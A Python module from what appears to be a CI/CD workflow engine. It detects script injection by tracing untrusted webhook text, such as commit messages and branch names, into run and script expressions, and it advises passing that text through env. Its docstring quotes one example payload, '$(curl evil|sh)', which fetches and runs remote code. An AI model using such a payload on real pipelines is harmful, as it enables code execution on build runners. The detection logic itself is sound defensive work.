"""Injection safety: untrusted event text must never become script source.

A ``${{ }}`` in ``run:`` (or ``script:``) is pasted into the script before it
runs, so an attacker who controls a commit message such as ``$(curl evil|sh)``
controls the script. Passing the value through ``env:`` is safe: the shell
expands ``"$MSG"`` as data, never as code.

The rule follows values, not a list of known paths: everything an event
carries is untrusted unless it is one of the few values a sender cannot shape
(:data:`TRUSTED_EVENT_FIELDS`: ids, numbers, SHAs, booleans, times, enumerations
and names that the providers restrict to ``[A-Za-z0-9._-]``), and so is every
manual-run input and every ``env`` variable whose value is built from them. A
read counts wherever it sits in the expression: directly, inside ``join``,
``format``, ``toJSON`` or ``fromJSON``, as an index (``env[git.branch]``) or
through a filter (``event.commits.*.added``). Not followed: step outputs, which
a script writes (pass them through ``env:`` when they may hold event text).

Contract: :func:`untrusted_paths` lists the dotted context paths known to hold
sender-chosen text (``*`` matches any list element or property): actionlint's
``BuiltinUntrustedInputs`` (``github.event.*``) mapped onto our ``event``
context, other free-text fields of GitHub, GitLab, Gitee and Codeup payloads
(branch and ref names too, which actionlint trusts: a pusher picks them and
they may hold ``$(...)``), and the ``git`` fields whose text the pusher
chooses; they name, in the error, what an enclosing object holds.
:func:`untrusted_reads` tells which reads of an expression are untrusted.
"""

from __future__ import annotations

import re

__all__ = [
    "TRUSTED_EVENT_FIELDS",
    "TRUSTED_GIT_FIELDS",
    "injection_message",
    "tainted_env",
    "untrusted_paths",
    "untrusted_reads",
]

# actionlint's BuiltinUntrustedInputs, github.event.* -> event.*
_ACTIONLINT = (
    "event.issue.title",
    "event.issue.body",
    "event.pull_request.title",
    "event.pull_request.body",
    "event.pull_request.head.ref",
    "event.pull_request.head.label",
    "event.pull_request.head.repo.default_branch",
    "event.comment.body",
    "event.review.body",
    "event.review_comment.body",
    "event.pages.*.page_name",
    "event.commits.*.message",
    "event.commits.*.author.email",
    "event.commits.*.author.name",
    "event.head_commit.message",
    "event.head_commit.author.email",
    "event.head_commit.author.name",
    "event.discussion.title",
    "event.discussion.body",
)
# Same kind of text elsewhere in GitHub payloads (CodeQL's list) and in Gitee's,
# which copies GitHub's shapes.
_GITHUB_MORE = (
    "event.pull_request.labels.*.name",
    "event.pull_request.labels.*.description",
    "event.issue.labels.*.name",
    "event.issue.labels.*.description",
    "event.release.name",
    "event.release.body",
    "event.commits.*.committer.email",
    "event.commits.*.committer.name",
    "event.head_commit.committer.email",
    "event.head_commit.committer.name",
    "event.workflow_run.head_branch",
    "event.workflow_run.head_commit.message",
    "event.workflow_run.head_commit.author.email",
    "event.workflow_run.head_commit.author.name",
    "event.pusher.name",
    "event.pusher.email",
    "event.sender.name",
    "event.ref",  # refs/heads/<a branch name the pusher chose>
    "event.base_ref",
)
# GitLab and Codeup webhooks (push, merge request, issue, note, pipeline events),
# checked against the payloads in ../shared/corpus/webhooks.
_GITLAB = (
    "event.object_attributes.title",
    "event.object_attributes.description",
    "event.object_attributes.note",
    "event.object_attributes.source_branch",
    "event.object_attributes.target_branch",
    "event.object_attributes.ref",
    "event.object_attributes.last_commit.message",
    "event.object_attributes.last_commit.title",
    "event.object_attributes.last_commit.author.name",
    "event.object_attributes.last_commit.author.email",
    "event.commits.*.title",
    "event.commit.message",
    "event.commit.author.name",
    "event.commit.author.email",
    "event.merge_request.title",
    "event.merge_request.description",
    "event.merge_request.source_branch",
    "event.merge_request.target_branch",
    "event.merge_request.last_commit.message",
    "event.merge_request.last_commit.author.name",
    "event.merge_request.last_commit.author.email",
    "event.issue.description",
    "event.labels.*.title",
    "event.user.name",
    "event.user_name",
    "event.user_email",
)
# Gitee repeats some of them at the top level of its payloads.
_GITEE = (
    "event.title",
    "event.body",
    "event.description",
    "event.note",
    "event.source_branch",
    "event.target_branch",
    "event.author.name",
    "event.pull_request.base.ref",
    "event.pull_request.base.label",
    "event.pull_request.merge_reference_name",
)
# serverless-cd's normalised fields holding names and text chosen by the pusher.
_GIT = (
    "git.message",
    "git.pusher",
    "git.branch",
    "git.source_branch",
    "git.target_branch",
    "git.tag",
    "git.ref",
)

#: Last segments of ``event`` paths whose values a sender cannot shape into shell
#: source: ids, counts, SHAs, flags, times, provider enumerations, URLs and names
#: built from them (GitHub, GitLab, Gitee and Codeup allow only ``[A-Za-z0-9._-]``
#: in user logins and repository paths).
TRUSTED_EVENT_FIELDS: frozenset[str] = frozenset({
    "id", "node_id", "iid", "number", "project_id", "target_project_id",
    "source_project_id", "sha", "after", "before", "checkout_sha", "head_sha", "base_sha",
    "size", "distinct_size", "total_commits_count", "additions", "deletions",
    "changed_files", "forced", "created", "deleted", "private", "fork", "draft", "merged",
    "locked", "distinct", "action", "object_kind", "event_name", "event_type", "state",
    "merge_status", "visibility_level", "created_at", "updated_at", "pushed_at",
    "merged_at", "closed_at", "timestamp", "login", "username", "full_name",
    "path_with_namespace", "url", "html_url", "web_url", "clone_url", "ssh_url",
    "git_http_url", "git_ssh_url", "http_url",
})  # fmt: skip
#: ``git`` fields that hold no sender-chosen text.
TRUSTED_GIT_FIELDS: frozenset[str] = frozenset({
    "provider", "event_name", "action", "commit", "before", "pr_number", "merged", "draft",
    "clone_url", "repository", "repo_owner", "delivery_id",
})  # fmt: skip

_UNTRUSTED: tuple[str, ...] = _ACTIONLINT + _GITHUB_MORE + _GITLAB + _GITEE + _GIT
_PATTERNS: tuple[tuple[str, ...], ...] = tuple(tuple(p.split(".")) for p in _UNTRUSTED)
_NOT_NAME = re.compile(r"[^A-Za-z0-9_]+")
_SHORT = {"message": "MSG"}


def untrusted_paths() -> tuple[str, ...]:
    """Every context path treated as untrusted, ``*`` standing for any element."""
    return _UNTRUSTED


def _segments_match(read: tuple[str, ...], pattern: tuple[str, ...]) -> bool:
    for got, want in zip(read, pattern, strict=False):
        if got == "*":  # a filter reads every element or property
            continue
        if want == "*":  # any element of a list, by its index
            if not got.isdigit():
                return False
        elif got != want:
            return False
    return True


def untrusted_reads(
    paths: list[str], tainted_env: frozenset[str] = frozenset()
) -> list[tuple[str, str]]:
    """For each read path that reaches untrusted text: ``(path, what it holds)``.

    ``paths`` are dotted context paths as :func:`scd_engine.expressions.referenced_paths`
    returns them (``*`` for filters and computed indexes; numeric segments for
    literal indexes). Property names compare case-insensitively, as the
    expression language does. ``tainted_env`` holds the (lower-case) names of
    ``env`` variables whose values read untrusted text. What a read holds is a
    known untrusted path it is, lies below (``git.pusher.name``) or contains
    (``event``, ``event.head_commit``, ``event.*.body``), else the read itself.
    """
    found: list[tuple[str, str]] = []
    for path in paths:
        read = tuple(path.lower().split("."))
        example = next(
            (text for pattern, text in zip(_PATTERNS, _UNTRUSTED, strict=True)
             if _segments_match(read, pattern)),
            None,
        )  # fmt: skip
        if example is not None:
            found.append((path, example))
        elif _untrusted(read, tainted_env):
            found.append((path, path.lower()))
    return found


def _untrusted(read: tuple[str, ...], tainted_env: frozenset[str]) -> bool:
    head, rest = read[0], read[1:]
    if head == "inputs":
        return True  # a manual run's caller types them
    if head == "env":
        # the whole context, or a computed name, may be any variable: a tainted one too
        if not rest or rest[0] == "*":
            return bool(tainted_env)
        return rest[0] in tainted_env
    if head == "git":
        return not rest or rest[0] not in TRUSTED_GIT_FIELDS
    if head == "event":
        last = next((s for s in reversed(rest) if s != "*" and not s.isdigit()), None)
        return last is None or last not in TRUSTED_EVENT_FIELDS
    return False


def tainted_env(env: object, inherited: frozenset[str] = frozenset()) -> frozenset[str]:
    """``inherited`` plus the (lower-case) names in the ``env`` mapping ``env`` whose
    values read untrusted text (or tainted variables); malformed entries are skipped."""
    tainted = set(inherited)
    if isinstance(env, dict):
        for name, value in env.items():
            if isinstance(value, str) and "${{" in value and _reads_untrusted(value, inherited):
                tainted.add(str(name).lower())
    return frozenset(tainted)


def _reads_untrusted(text: str, inherited: frozenset[str]) -> bool:
    from scd_engine.expressions import ExpressionError, find_expressions, referenced_paths

    try:
        paths = [p for _, _, e in find_expressions(text) for p in referenced_paths(e)]
    except ExpressionError:
        return False  # reported where the value is checked
    return bool(untrusted_reads(paths, inherited))


def injection_message(field: str, path: str, example: str, expression: str) -> str:
    """The error shown for an untrusted read, with the safe form spelled out.

    ``field`` is ``run`` or ``script``; ``example`` an untrusted path the read
    reaches; ``expression`` the source of the offending ``${{ }}``.
    """
    last = next((s for s in reversed(path.split(".")) if s != "*" and not s.isdigit()), "VALUE")
    name = _SHORT.get(last, _NOT_NAME.sub("_", last).upper().strip("_") or "VALUE")
    contains = "" if path.lower() == example.lower() else f" (it holds {example})"
    use = f'"${name}"' if field == "run" else f"os.environ['{name}']"
    return (
        f"{field}: uses untrusted value {path}{contains} in ${{{{ }}}}; pass it through env "
        f"instead: env: {{{name}: ${{{{ {expression.strip()} }}}}}} and use {use} in the "
        "script; hint: text such as a commit message or branch name can hold "
        "$(commands) that would run as part of the script"
    )
